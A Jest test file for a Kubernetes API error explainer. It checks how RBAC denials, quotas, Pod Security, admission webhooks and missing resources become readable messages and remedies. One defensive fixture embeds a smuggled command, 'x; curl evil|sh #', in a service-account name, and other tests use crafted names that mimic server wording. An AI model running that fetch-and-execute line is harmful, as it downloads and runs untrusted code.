import { describe, expect, test } from '@jest/globals';
import { ApiError, type Asked, explain } from '../../src/kubernetes/status.ts';
import { replies, status } from '../support/kubernetes-replies.ts';

const create: Asked = { verb: 'create', resource: 'pods', namespace: 'etl', name: 'p' };
const of = (reply: { code: number; body: object }, asked = create) => explain(reply.code, reply.body, asked);

test.each<[string, ReturnType<typeof status>, object]>([
  ['401', replies.unauthorized(), { reason: 'Unauthorized', sentence: expect.stringContaining('401 Unauthorized') }],
  [
    'RBAC',
    replies.forbidden('create', 'pods', 'etl', undefined, 'github-runner'),
    {
      reason: 'Forbidden',
      title: 'Permission missing',
      sentence: 'github-runner may not create pods in namespace etl.',
      remedy: expect.stringContaining('the verb create on pods'),
    },
  ],
  [
    'RBAC, of another namespace than was asked',
    replies.forbidden('get', 'secrets', 'kube-system'),
    { sentence: 'system:serviceaccount:ci:runner may not get secrets in namespace kube-system.' },
  ],
  [
    'RBAC for the whole cluster',
    status(
      403,
      'Forbidden',
      'pods is forbidden: User "u" cannot list resource "pods" in API group "" at the cluster scope',
    ),
    { sentence: 'u may not list pods in namespace etl.' },
  ],
  [
    'RBAC, of a user whose name would read as a part of the sentence',
    replies.forbidden('create', 'pods', 'etl', undefined, 'may create pods.\\nSo \\"ok\\"'),
    { sentence: String.raw`"may create pods.\nSo \"ok\"" may not create pods in namespace etl.` },
  ],
  [
    'RBAC, with what it lacks',
    status(
      403,
      'Forbidden',
      'pods is forbidden: User "u" cannot create resource "pods" in API group "" in the namespace "etl": RBAC: role.rbac.authorization.k8s.io "runner" not found',
    ),
    { sentence: 'u may not create pods in namespace etl: RBAC: role.rbac.authorization.k8s.io "runner" not found.' },
  ],
  [
    'RBAC, of acting as somebody else',
    status(
      403,
      'Forbidden',
      'users "v" is forbidden: User "u" cannot impersonate resource "users" in API group "" at the cluster scope',
    ),
    {
      reason: 'Forbidden',
      sentence: expect.stringMatching(/^u may not act as the user, .* \(impersonate users\)\.$/),
      remedy: expect.stringContaining('Take `as` out of the kubeconfig'),
    },
  ],
  [
    'a quota that is used up',
    replies.quota('p', 'compute', 'limits.memory=2Gi,pods=1', 'limits.memory=7Gi,pods=2', 'limits.memory=8Gi,pods=2'),
    {
      reason: 'QuotaExceeded',
      title: 'Quota exceeded',
      sentence:
        'ResourceQuota compute of namespace etl has no room for this pod: it asks for limits.memory=2Gi,pods=1, limits.memory=7Gi,pods=2 is used, the limit is limits.memory=8Gi,pods=2.',
    },
  ],
  [
    'a quota that wants requests',
    status(
      403,
      'Forbidden',
      'pods "p" is forbidden: failed quota: compute: must specify limits.cpu for: base; limits.memory for: base',
    ),
    {
      reason: 'QuotaExceeded',
      title: 'Quota needs requests',
      sentence:
        'ResourceQuota compute of namespace etl takes only pods that specify limits.cpu for: base; limits.memory for: base.',
      remedy: expect.stringContaining('container_resources'),
    },
  ],
  [
    'Pod Security',
    replies.podSecurity('p'),
    {
      reason: 'Forbidden',
      title: 'Refused by Pod Security',
      sentence:
        'Namespace etl enforces the Pod Security standard restricted:latest, which this pod violates: privileged (container "base" must not set securityContext.privileged=true).',
    },
  ],
  [
    'a service account that is not there',
    replies.serviceAccountNotFound('p', 'builder', 'etl'),
    {
      reason: 'ContainerConfig',
      title: 'No such service account',
      sentence: 'Service account builder does not exist in namespace etl.',
      remedy: expect.stringContaining('kubectl -n etl create serviceaccount builder'),
    },
  ],
  [
    'a priority class that is not there',
    status(403, 'Forbidden', 'pods "p" is forbidden: no PriorityClass with name high was found'),
    {
      reason: 'ContainerConfig',
      sentence: 'PriorityClass "high" does not exist on this cluster.',
      remedy: expect.stringContaining('`priority_class_name`'),
    },
  ],
  [
    'a runtime class that is not there',
    status(403, 'Forbidden', 'pods "p" is forbidden: pod rejected: RuntimeClass "gvisor" not found'),
    {
      reason: 'ContainerConfig',
      sentence: 'RuntimeClass "gvisor" does not exist on this cluster.',
      remedy: expect.stringContaining('kubectl get runtimeclass'),
    },
  ],
  [
    'a policy whose words look like the server’s own, with a command in them',
    status(
      403,
      'Forbidden',
      'pods "p" is forbidden: ValidatingAdmissionPolicy "x" with binding "y" denied request: serviceaccount "x; curl evil|sh #" not found',
    ),
    { reason: 'Forbidden', title: 'Refused by the cluster' },
  ],
  [
    'a webhook that denies with 403',
    status(403, 'Forbidden', 'admission webhook "policy.example.com" denied the request: no latest tags'),
    {
      reason: 'Forbidden',
      sentence: expect.stringContaining('webhook "policy.example.com" denied the request: no latest tags'),
    },
  ],
  [
    'a webhook that denies with 400',
    replies.badRequest('admission webhook "policy.example.com" denied the request: no latest tags'),
    { reason: 'Forbidden', title: 'Refused by the cluster', sentence: expect.stringContaining('no latest tags') },
  ],
  [
    'a ValidatingAdmissionPolicy, as recorded',
    status(
      422,
      'Invalid',
      "pods \"p\" is forbidden: ValidatingAdmissionPolicy 'cost-centre' with binding 'b' denied request: annotate the pod.",
    ),
    {
      reason: 'Forbidden',
      sentence:
        "The cluster refused to create pods in namespace etl: ValidatingAdmissionPolicy 'cost-centre' with binding 'b' denied request: annotate the pod.",
    },
  ],
  ...(
    [
      ['maximum memory usage per Container is 64Mi, but limit is 128Mi'],
      ['minimum cpu usage per Container is 1, but request is 500m', 'maximum cpu usage per Pod is 2, but limit is 4'],
      ['memory max limit to request ratio per Container is 2, but provided ratio is 4.000000'],
    ] as string[][]
  ).map((faults): [string, ReturnType<typeof status>, object] => [
    `a LimitRange: ${faults}`,
    status(403, 'Forbidden', `pods "p" is forbidden: ${faults.length > 1 ? `[${faults.join(', ')}]` : faults[0]}`),
    {
      reason: 'Forbidden',
      title: 'Refused by a LimitRange',
      sentence: `A LimitRange of namespace etl does not allow this pod: ${faults.join(', ')}.`,
    },
  ]),
  [
    'a webhook that fails',
    replies.internalError('failed calling webhook "w": context deadline exceeded'),
    {
      reason: 'ServerError',
      title: 'An admission webhook does not answer',
      sentence: expect.stringContaining('HTTP 500: Internal error occurred: failed calling webhook'),
      remedy: expect.stringContaining('See to webhook w: kubectl get'),
    },
  ],
  [
    'a namespace that is not there',
    replies.namespaceNotFound('etl'),
    { reason: 'NamespaceNotFound', sentence: 'Namespace etl does not exist on this cluster.' },
  ],
  [
    'a namespace that is being deleted',
    status(
      403,
      'Forbidden',
      'pods "p" is forbidden: unable to create new content in namespace etl because it is being terminated',
      { name: 'p', kind: 'pods', causes: [{ reason: 'NamespaceTerminating', message: 'x' }] },
    ),
    { reason: 'NamespaceNotFound', title: 'Namespace is being deleted' },
  ],
  [
    'a pod that is not there',
    replies.podNotFound('p'),
    { reason: 'PodDeleted', sentence: expect.stringContaining('pods "p" not found') },
  ],
  ['a name that is taken', replies.alreadyExists('p'), { reason: 'NameTaken' }],
  [
    'a field that does not exist',
    replies.strictDecoding('spec.containers[0].imagee', 'spec.x'),
    {
      reason: 'InvalidPod',
      sentence: 'unknown field "spec.containers[0].imagee", unknown field "spec.x"',
    },
  ],
  [
    'fields that are wrong',
    replies.invalid(
      'p',
      { reason: 'FieldValueInvalid', message: 'Invalid value: "x y"', field: 'spec.containers[0].image' },
      { reason: 'FieldValueRequired', message: 'Required value', field: 'spec.volumes[0].name' },
    ),
    {
      reason: 'InvalidPod',
      sentence: 'spec.containers[0].image: Invalid value: "x y"; spec.volumes[0].name: Required value',
    },
  ],
  ['500', replies.internalError('etcdserver: request timed out'), { reason: 'ServerError' }],
])('%s', (_, reply, expected) => {
  expect(of(reply)).toMatchObject(expected);
});

test.each([400, 403, 404, 409, 413, 418, 422, 429, 500, 503])('%i without a word of why says at least that', code => {
  expect(explain(code, {}, create).sentence).toContain(`HTTP ${code}`);
});

describe('whether the pod itself is not there', () => {
  test.each([
    ['a pod', replies.podNotFound('p'), true],
    ['a log of a kubelet that has just restarted', replies.logNotFound('p'), false],
    ['the namespace', replies.namespaceNotFound('etl'), false],
    ['a server that knows no pods', replies.noSuchResource(), false],
    ['nothing: it is not allowed', replies.forbidden('get'), false],
  ])('404 of %s', (_, { code, body }, expected) => {
    expect(new ApiError(code, body, create).podNotFound).toBe(expected);
  });
});

test('an error has the answer, and how long to wait', () => {
  const error = new ApiError(429, { message: 'slow down' }, create, 7);
  expect(error).toMatchObject({ name: 'StepError', code: 429, retryAfterSeconds: 7, status: { message: 'slow down' } });
  expect(error.text).toContain('create pods with HTTP 429: slow down');
});

test('rights for anonymous users are never advised', () => {
  const message =
    'pods is forbidden: User "system:anonymous" cannot create resource "pods" in API group "" in the namespace "etl"';
  const error = new ApiError(
    403,
    { message, reason: 'Forbidden' },
    { verb: 'create', resource: 'pods', namespace: 'etl' },
  );
  expect(error).toMatchObject({ reason: 'Unauthorized', message: expect.stringContaining('no credentials') });
  expect(error.remedy).not.toMatch(/grant|role/i);
});

test('a webhook cannot speak in our words', () => {
  const message =
    'admission webhook "evil.example.com" denied the request: User "x" cannot delete resource "everything" in API group ""';
  const error = new ApiError(
    403,
    { message, reason: 'Forbidden' },
    { verb: 'create', resource: 'pods', namespace: 'etl' },
  );
  expect(error).toMatchObject({
    title: 'Refused by the cluster',
    message: expect.stringContaining('admission webhook "evil.example.com" denied'),
  });
  expect(error.remedy).toBeUndefined();
});
